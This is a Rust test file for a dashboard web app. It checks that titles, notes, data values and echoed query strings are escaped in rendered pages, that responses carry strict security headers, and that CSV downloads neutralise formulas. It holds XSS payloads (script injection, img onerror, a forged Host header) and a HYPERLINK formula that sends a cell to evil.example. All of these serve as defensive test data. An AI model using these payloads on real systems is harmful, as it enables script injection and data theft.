//! Text people and keys can set — titles, names, notes, data values, file
//! names, query strings echoed back — is escaped wherever a page renders it
//! (the `<title>`, attributes, tables, chart data), and every answer carries the
//! headers that keep a browser strict. Each is tried with markup that would run
//! script if it were written into the page as given.

use axum::http::{Method, StatusCode};
use serde_json::{json, Value};

use crate::support::{call, signed_in, with_demo_and_people, TestApp};

/// Closes the title and opens a script.
const TITLE_BREAK: &str = "Q3</title><script>window.__pulse_pwned=1</script><title>";
/// Leaves an attribute and adds an element with a handler.
const ATTRIBUTE_BREAK: &str = "\"><img src=x onerror=window.__pulse_pwned=2>";

/// What would be live markup if a payload were written unescaped.
const LIVE: [&str; 3] = [
    "<script>window.__pulse_pwned",
    "<img src=x onerror",
    "</title><script>",
];

fn assert_inert(what: &str, html: &str) {
    for live in LIVE {
        assert!(
            !html.contains(live),
            "{what} holds live markup {live:?}:\n{}",
            &html[html.find(live).unwrap_or(0).saturating_sub(300)..]
                .chars()
                .take(700)
                .collect::<String>()
        );
    }
}

/// The document's title, as written in the page.
fn title_of(html: &str) -> &str {
    let start = html.find("<title>").expect("a title") + "<title>".len();
    let end = html[start..].find("</title>").expect("a closed title") + start;
    &html[start..end]
}

/// A service as the services API lists it.
async fn service_json(app: &TestApp, slug: &str) -> Value {
    app.get("/api/v1/services").await.json()["services"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["slug"] == slug)
        .cloned()
        .unwrap()
}

async fn admin_put(app: &TestApp, key: &str, uri: &str, body: &Value) {
    let answer = app.send(Method::PUT, uri, key, body).await;
    assert_eq!(answer.status, StatusCode::OK, "{uri}: {}", answer.text());
}

async fn payloads_set_by_people_and_keys_are_inert_in_every_page(app: TestApp) {
    let app = with_demo_and_people(app).await;
    let admin = app.admin_key().await;
    let both = format!("{TITLE_BREAK} {ATTRIBUTE_BREAK}");

    // A service's title and description.
    let service = service_json(&app, "file-a-tax-return").await;
    let organisation = service["agency"]["slug"]
        .as_str()
        .or(service["department"]["slug"].as_str())
        .unwrap()
        .to_string();
    admin_put(
        &app,
        &admin,
        "/api/v1/services/file-a-tax-return",
        &json!({"slug": "file-a-tax-return", "title": both, "description": both,
                "organisation": organisation}),
    )
    .await;

    // A dashboard's title, description and every module's title and texts.
    let mut dashboard = app
        .send(
            Method::GET,
            "/api/v1/dashboards/file-a-tax-return",
            &admin,
            &json!(null),
        )
        .await
        .json();
    dashboard["title"] = json!(both);
    dashboard["description"] = json!(both);
    // A module with a page of its own (not a section).
    let first_module = dashboard["modules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["type"] != "section" && m["data_set"].is_string())
        .and_then(|m| m["slug"].as_str())
        .unwrap()
        .to_string();
    for module in dashboard["modules"].as_array_mut().unwrap() {
        module["title"] = json!(both);
        module["description"] = json!(both);
        module["info"] = json!(both);
    }
    admin_put(
        &app,
        &admin,
        "/api/v1/dashboards/file-a-tax-return",
        &dashboard,
    )
    .await;

    // A portfolio's title (any signed-in person may save one).
    let viewer = signed_in(&app, "viewer@demo.pulse.example").await;
    let saved = call(
        &app,
        Method::POST,
        "/api/v1/portfolios",
        &viewer,
        Some(&json!({"title": both, "services": ["file-a-tax-return", "register-a-birth"]})),
    )
    .await;
    assert_eq!(saved.status, StatusCode::CREATED, "{}", saved.text());
    let portfolio = saved.json()["id"].as_str().unwrap().to_string();

    // A public note on the dashboard's first module.
    let editor = signed_in(&app, "editor@demo.pulse.example").await;
    let note = call(
        &app,
        Method::POST,
        "/api/v1/annotations",
        &editor,
        Some(&json!({
            "service": "file-a-tax-return",
            "module": format!("file-a-tax-return/{first_module}"),
            "starts_at": "2026-10-05T00:00:00Z",
            "text": both,
            "tags": ["launch"],
            "visibility": "public"
        })),
    )
    .await;
    assert_eq!(note.status, StatusCode::CREATED, "{}", note.text());

    // A data value (a channel's name) sent through the write API.
    let token = app
        .data_set(json!({"data_group": "escaping", "data_type": "values",
                         "published": true, "raw_queries_allowed": true}))
        .await;
    let sent = app
        .send(
            Method::POST,
            "/data/escaping/values",
            &token,
            &json!([{"_timestamp": "2026-11-16T00:00:00Z", "channel": both, "count": 3}]),
        )
        .await;
    assert_eq!(sent.status, StatusCode::OK, "{}", sent.text());

    let pages = [
        "/file-a-tax-return".to_string(),
        format!("/file-a-tax-return/{first_module}"),
        "/services/file-a-tax-return".to_string(),
        "/services".to_string(),
        format!("/boards/portfolio/{portfolio}"),
        format!("/boards/{organisation}"),
        "/compare?services=file-a-tax-return,register-a-birth".to_string(),
        // Query strings echoed back.
        format!(
            "/services?name={}",
            form_urlencoded::byte_serialize(both.as_bytes()).collect::<String>()
        ),
        format!(
            "/guide?q={}",
            form_urlencoded::byte_serialize(both.as_bytes()).collect::<String>()
        ),
    ];
    for page in &pages {
        for who in [&[][..], &editor[..]] {
            let answer = call(&app, Method::GET, page, who, None).await;
            assert!(
                answer.status.is_success(),
                "{page}: {} {}",
                answer.status,
                answer.text()
            );
            let html = answer.text();
            assert_inert(page, &html);
            assert!(
                !title_of(&html).contains('<'),
                "{page}: {:?}",
                title_of(&html)
            );
        }
    }
    // The titles name the thing, escaped rather than dropped.
    let html = app.get("/file-a-tax-return").await.text();
    assert!(
        title_of(&html).starts_with("Q3&lt;/title&gt;&lt;script&gt;"),
        "{}",
        title_of(&html)
    );
    let html = app
        .get(&format!("/boards/portfolio/{portfolio}"))
        .await
        .text();
    assert!(
        title_of(&html).contains("&lt;img src=x onerror"),
        "{}",
        title_of(&html)
    );

    // The guide writes this installation's address from the Host header.
    let forged = app
        .request(
            Method::GET,
            "/guide/send-data",
            &[("host", "pulse.example\"><img src=x onerror=alert(1)>")],
            Vec::new(),
        )
        .await;
    assert_inert("the guide with a forged Host", &forged.text());
}
both!(payloads_set_by_people_and_keys_are_inert_in_every_page);

async fn every_answer_carries_strict_headers(app: TestApp) {
    let app = with_demo_and_people(app).await;
    let viewer = signed_in(&app, "viewer@demo.pulse.example").await;
    for (uri, who) in [
        ("/", &[][..]),
        ("/file-a-tax-return", &[][..]),
        ("/services/file-a-tax-return", &viewer[..]),
        ("/boards", &[][..]),
        ("/sign-in", &[][..]),
        ("/no-such-dashboard", &[][..]),
        ("/api/v1/services", &[][..]),
        ("/api/v1/dashboards/nope", &[][..]),
        ("/data/no/such", &[][..]),
        ("/_status", &[][..]),
    ] {
        let answer = call(&app, Method::GET, uri, who, None).await;
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{uri}");
        assert_eq!(answer.header("referrer-policy"), "same-origin", "{uri}");
        assert_eq!(answer.header("x-frame-options"), "DENY", "{uri}");
        let policy = answer.header("content-security-policy").to_string();
        assert!(policy.contains("frame-ancestors 'none'"), "{uri}: {policy}");
        let html = answer.header("content-type").starts_with("text/html");
        if html {
            // A page's scripts run only with its nonce, which its inline
            // scripts carry and which differs on every request.
            let nonce = policy
                .split("'nonce-")
                .nth(1)
                .and_then(|rest| rest.split('\'').next())
                .unwrap_or_else(|| panic!("{uri}: no nonce in {policy}"));
            assert!(nonce.len() >= 16, "{uri}: {nonce}");
            let text = answer.text();
            let inline = text.matches("<script").count();
            let with_nonce = text.matches(&format!("nonce=\"{nonce}\"")).count();
            let external = text.matches("<script src=").count();
            assert!(inline > 0, "{uri}");
            assert_eq!(
                inline - external,
                with_nonce,
                "{uri}: every inline script carries the nonce"
            );
            let again = call(&app, Method::GET, uri, who, None).await;
            assert_ne!(
                again.header("content-security-policy"),
                policy,
                "{uri}: a new nonce per request"
            );
        } else {
            assert!(policy.starts_with("default-src 'none'"), "{uri}: {policy}");
        }
    }
}
both!(every_answer_carries_strict_headers);

/// A title a spreadsheet would run as a formula is text in every CSV made
/// for people to open (the explorer's and a board's, as a module's table):
/// it starts with `'`, and no field of the download starts with `=`.
async fn a_title_a_spreadsheet_would_run_is_text_in_every_download(app: TestApp) {
    let app = with_demo_and_people(app).await;
    let admin = app.admin_key().await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"File a tax return\")";
    let service = service_json(&app, "file-a-tax-return").await;
    let organisation = service["department"]["slug"].as_str().unwrap().to_string();
    admin_put(
        &app,
        &admin,
        "/api/v1/services/file-a-tax-return",
        &json!({"slug": "file-a-tax-return", "title": formula,
                "organisation": service["agency"]["slug"].as_str().unwrap_or(&organisation)}),
    )
    .await;
    for uri in [
        "/api/v1/service-kpis?format=csv".to_string(),
        format!("/api/v1/boards/{organisation}?format=csv"),
    ] {
        let csv = app.get(&uri).await;
        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.text());
        let text = csv.text();
        assert!(
            text.contains(
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"File a tax return\"\")\""
            ),
            "{uri}: {text}"
        );
        for line in text.lines() {
            assert!(
                !line.starts_with('=') && !line.contains(",=") && !line.contains(",\"="),
                "{uri}: a field a spreadsheet would run: {line}"
            );
        }
    }
}
both!(a_title_a_spreadsheet_would_run_is_text_in_every_download);
